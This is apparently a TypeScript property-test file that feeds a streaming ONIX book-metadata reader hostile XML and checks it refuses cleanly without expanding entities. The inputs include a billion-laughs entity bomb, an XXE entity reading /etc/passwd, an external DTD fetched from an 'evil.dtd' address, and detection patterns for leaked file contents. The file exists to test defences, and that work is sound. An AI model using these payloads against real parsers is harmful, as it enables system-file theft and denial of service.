// Hostile ONIX files against the streaming ONIX reader: entity bombs (billion laughs), external
// entities, entities without a declaration, character references to NUL or surrogates, deep
// nesting, huge text, CDATA, declared encodings it can't read, invalid UTF-8, and products whose
// every element holds hostile text. The reader expands no entity and reads no DTD: it answers rows
// that parseWork can judge, or one ImportFileError with a line and a sentence, within the budget.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ImportFileError, type ImportRow } from "@/server/imports/import-rows";
import { readOnixRows } from "@/server/imports/onix-rows";
import { parseWork } from "@/lib/works/work-input";
import { byteSplices, chunkSize, chunksOf, hostileText, identifierLike, spliceBytes } from "./support/arbitraries";
import { asyncRefusalOf, expectClearFieldErrors, expectClearMessage, expectIdentifierStorable, hostileAsyncProperty, recordHostileCases } from "./support/hostile";

recordHostileCases(import.meta.filename);

const escape = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** Element text: escaped hostile text mostly, sometimes raw (<, &) or an entity or character reference. */
const text = fc.oneof(
  { weight: 5, arbitrary: hostileText(40).map(escape) },
  { weight: 2, arbitrary: identifierLike.map(escape) },
  { weight: 1, arbitrary: hostileText(20) },
  { weight: 1, arbitrary: fc.constantFrom("&lol9;", "&xxe;", "&undefined;", "&#0;", "&#xD800;", "&#x110000;", "&#65;&#x42;", "<![CDATA[ <b>&amp;</b> ]]>", "<!-- c -->", "&amp;amp;", "]]>") },
);

const el = (name: string, body: string) => `<${name}>${body}</${name}>`;
const shortTag = fc.constantFrom(false, true);

const product = fc
  .record({
    ids: fc.array(fc.tuple(fc.constantFrom("15", "02", "03", "06", "01", "", "99"), fc.oneof(fc.constantFrom("9780306406157", "0306406152", "10.1000/XYZ", "9790000000001"), text)), { maxLength: 4 }),
    notification: fc.constantFrom("03", "05", "", "&#0;"),
    title: fc.array(fc.tuple(fc.constantFrom("01", "02", ""), text, fc.option(text)), { maxLength: 3 }),
    contributors: fc.array(fc.tuple(fc.oneof(fc.nat(20).map(String), text), text), { maxLength: 4 }),
    language: fc.option(text),
    publisher: fc.option(text),
    date: fc.option(fc.oneof(fc.constantFrom("20210315", "2021", "0000", "99999999"), text)),
    issn: fc.option(fc.oneof(fc.constant("0317-8471"), text)),
    junk: fc.option(fc.oneof(text, fc.integer({ min: 10, max: 3_000 }).map((depth) => "<x>".repeat(depth) + "deep" + "</x>".repeat(depth)))),
  })
  .chain((p) => shortTag.map((isShort) => {
    const t = (reference: string, short: string) => (isShort ? short : reference);
    const parts = [
      el(t("RecordReference", "a001"), "rr"),
      el(t("NotificationType", "a002"), p.notification),
      ...p.ids.map(([type, value]) => el(t("ProductIdentifier", "productidentifier"), el(t("ProductIDType", "b221"), type) + el(t("IDValue", "b244"), value))),
      el(t("DescriptiveDetail", "descriptivedetail"), [
        p.issn === null ? "" : el(t("Collection", "collection"), el(t("CollectionIdentifier", "collectionidentifier"), el(t("CollectionIDType", "x344"), "02") + el(t("IDValue", "b244"), p.issn))),
        ...p.title.map(([type, main, sub]) => el(t("TitleDetail", "titledetail"), el(t("TitleType", "b202"), type) + el(t("TitleElement", "titleelement"), el(t("TitleText", "b203"), main) + (sub === null ? "" : el(t("Subtitle", "b029"), sub))))),
        ...p.contributors.map(([seq, name]) => el(t("Contributor", "contributor"), el(t("SequenceNumber", "b034"), seq) + el(t("PersonName", "b036"), name))),
        p.language === null ? "" : el(t("Language", "language"), el(t("LanguageRole", "b253"), "01") + el(t("LanguageCode", "b252"), p.language)),
        p.junk ?? "",
      ].join("")),
      el(t("PublishingDetail", "publishingdetail"), (p.publisher === null ? "" : el(t("Publisher", "publisher"), el(t("PublisherName", "b081"), p.publisher))) + (p.date === null ? "" : el(t("PublishingDate", "publishingdate"), el(t("PublishingDateRole", "x448"), "01") + el(t("Date", "b306"), p.date)))),
    ];
    return el(t("Product", "product"), parts.join("\n"));
  }));

const BILLION_LAUGHS = `<!DOCTYPE ONIXMessage [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("")}]>`;
const DOCTYPES = [
  "",
  BILLION_LAUGHS,
  '<!DOCTYPE ONIXMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE ONIXMessage [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]>',
  '<!DOCTYPE ONIXMessage SYSTEM "http://www.editeur.org/onix/3.0/reference/onix-international.dtd">',
  "<!DOCTYPE ONIXMessage>",
];
const PROLOGS = ["", '<?xml version="1.0" encoding="UTF-8"?>\n', "\ufeff<?xml version=\"1.0\"?>", '<?xml version="1.0" encoding="ISO-8859-1"?>', '<?xml version="1.0" encoding="UTF-16"?>', '<?xml version="1.0" encoding="EBCDIC-xyz"?>', "  \n"];
const ROOTS = ['<ONIXMessage release="3.0" xmlns="http://ns.editeur.org/onix/3.0/reference">', '<ONIXmessage release="3.0">', '<ONIXMessage release="2.1">', "<ONIXMessage>", "<html>", '<onix:ONIXMessage xmlns:onix="x" release="3.0">'];

const onixFile = fc
  .tuple(fc.constantFrom(...PROLOGS), fc.constantFrom(...DOCTYPES), fc.constantFrom(...ROOTS), fc.array(product, { maxLength: 8 }), fc.boolean(), byteSplices)
  .map(([prolog, doctype, root, products, isClosed, splices]) => {
    const close = root.startsWith("<onix:") ? "</onix:ONIXMessage>" : root === "<html>" ? "</html>" : root.startsWith("<ONIXmessage") ? "</ONIXmessage>" : "</ONIXMessage>";
    return spliceBytes(`${prolog}${doctype}${root}<Header/>${products.join("\n")}${isClosed ? close : ""}`, splices);
  });

async function readAll(bytes: Buffer, size: number): Promise<{ rows: ImportRow[]; refusal: Error | null }> {
  const rows: ImportRow[] = [];
  const refusal = await asyncRefusalOf(async () => {
    for await (const batch of readOnixRows(chunksOf(bytes, Math.max(size, Math.ceil(bytes.length / 2_000))))) rows.push(...batch);
  }, ImportFileError);
  return { rows, refusal };
}

describe("ONIX files", () => {
  it("give rows parseWork can judge, or ImportFileError with a line and a sentence, never expanding an entity", async () => {
    await hostileAsyncProperty("readOnixRows", fc.tuple(onixFile, chunkSize), async ([bytes, size]) => {
      const { rows, refusal } = await readAll(bytes, size);
      if (refusal) {
        expect((refusal as ImportFileError).line).toBeGreaterThanOrEqual(1);
        expectClearMessage(refusal.message);
      }
      let last = 0;
      for (const row of rows) {
        expect(row.line).toBeGreaterThanOrEqual(last);
        last = row.line;
        // Nothing an entity could have brought in: no expanded laughs, no file contents.
        expect(row.raw).not.toMatch(/lollollol|root:x:0:0/);
        if (!row.ok) {
          for (const reason of row.reasons) expectClearMessage(reason);
          continue;
        }
        expect(JSON.stringify(row.work)).not.toMatch(/lollollol|root:x:0:0/);
        const parsed = parseWork(row.work);
        if (!parsed.ok) expectClearFieldErrors(parsed.errors, row.work);
        else parsed.work.identifiers.forEach(expectIdentifierStorable);
      }
    }, { numRuns: 500 });
  });

  // Found by the property: past the first broken spot saxes reports an error for nearly every
  // character, and the reader wrote whole 64 KB chunks: 60,000 errors, 250 ms for one chunk.
  it("stops reading at the first fatal problem", async () => {
    const junk = Buffer.from(`<ONIXMessage release="3.0"><Product></Product></ONIXMessage>${"<".repeat(60_000)}`);
    const started = performance.now();
    const { refusal } = await readAll(junk, 64 * 1024);
    expect(performance.now() - started).toBeLessThan(100);
    expectClearMessage(refusal?.message);
  });

  it("refuses an entity bomb at once, with the reason", async () => {
    const bomb = Buffer.from(`<?xml version="1.0"?>${BILLION_LAUGHS}<ONIXMessage release="3.0"><Product><RecordReference>&lol9;</RecordReference></Product></ONIXMessage>`);
    const started = performance.now();
    const { rows, refusal } = await readAll(bomb, 64 * 1024);
    expect(performance.now() - started).toBeLessThan(200);
    expect(rows).toEqual([]);
    expect(refusal?.message).toMatch(/entities/);
  });

  it("reads 100,000 nested elements and a megabyte of text without a stack overflow, refusing the product", async () => {
    const deep = `<ONIXMessage release="3.0"><Product>${"<x>".repeat(100_000)}${"</x>".repeat(100_000)}<ProductIdentifier><ProductIDType>15</ProductIDType><IDValue>9780306406157</IDValue></ProductIdentifier></Product></ONIXMessage>`;
    const { rows, refusal } = await readAll(Buffer.from(deep), 64 * 1024);
    expect(refusal).toBeNull();
    expect(rows).toHaveLength(1);
    const long = `<ONIXMessage release="3.0"><Product><RecordReference>${"a".repeat(1_100_000)}</RecordReference></Product></ONIXMessage>`;
    const tooLong = await readAll(Buffer.from(long), 64 * 1024);
    expect(tooLong.refusal).toBeNull();
    expect(tooLong.rows).toMatchObject([{ ok: false, reasons: [expect.stringMatching(/longer than 64 KB/), expect.any(String)] }]);
  });
});
